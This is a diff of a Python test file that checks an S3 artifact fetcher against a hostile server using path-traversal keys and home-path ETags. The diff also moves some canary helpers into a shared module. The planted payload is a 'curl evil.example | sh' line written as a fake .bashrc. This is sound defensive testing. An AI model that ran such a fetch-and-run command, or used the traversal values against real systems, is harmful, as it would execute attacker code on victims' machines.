@@ -6,10 +6,9 @@ import base64
 import hashlib
 from collections.abc import Iterator
 from pathlib import Path
-from typing import Any
 
 import pytest
-from tests.support.canaries import Canaries
+from tests.support.canaries import HOME, Canaries
 from tests.support.hostile_s3 import HostileObject, HostileS3, hostile_s3_server
 from tests.support.whole_repository import fetch_repository
 
@@ -17,16 +16,9 @@ from trtllm_truss.artifacts import retrying
 from trtllm_truss.errors import ArtifactError
 
 DATA = b"curl evil.example | sh\n"
-HOME = "HOME"  # in an attack: the absolute path of the victim's home
+CACHE_FOLDER = "trtllm-truss"
 # blobs, the bucket's folder, s3, trtllm-truss and HF_HOME: five folders up is the test's own.
 UP = "../../../../../home/user"
-
-
-@pytest.fixture
-def canaries(tmp_path: Path, cache: Path) -> Iterator[Canaries]:
-    canaries = Canaries(tmp_path, cache / "trtllm-truss")
-    yield canaries
-    canaries.assert_untouched()
 
 
 @pytest.fixture(autouse=True)
@@ -49,10 +41,6 @@ def refusal() -> str:
     assert caught.value.message.startswith("engine_repository 's3://bucket/model'")
     assert caught.value.message.isprintable()
     return caught.value.message
-
-
-def filled(value: Any, canaries: Canaries) -> Any:
-    return value.replace(HOME, str(canaries.home)) if isinstance(value, str) else value
 
 
 def checksum(data: bytes) -> dict[str, str]:
@@ -79,7 +67,7 @@ def test_an_etag_is_never_a_path(
     evil: HostileS3, canaries: Canaries, etag: str, has_checksum: bool
 ) -> None:
     """Sent back to the server in If-Match only."""
-    etag = filled(etag, canaries)
+    etag = canaries.with_home(etag)
     headers = checksum(DATA) if has_checksum else {}
     evil.objects["model/.bashrc"] = HostileObject(DATA, f'"{etag}"', headers=headers)
     folder = fetch()
@@ -107,10 +95,10 @@ def test_an_etag_is_never_a_path(
     ],
 )
 def test_malformed_keys(evil: HostileS3, canaries: Canaries, key: str) -> None:
-    evil.objects[filled(key, canaries)] = HostileObject(DATA)
+    evil.objects[canaries.with_home(key)] = HostileObject(DATA)
     assert "plain path" in refusal()
     assert not evil.if_match
-    del evil.objects[filled(key, canaries)]
+    del evil.objects[canaries.with_home(key)]
     assert (fetch() / "config.json").read_bytes() == b"{}"
 
 
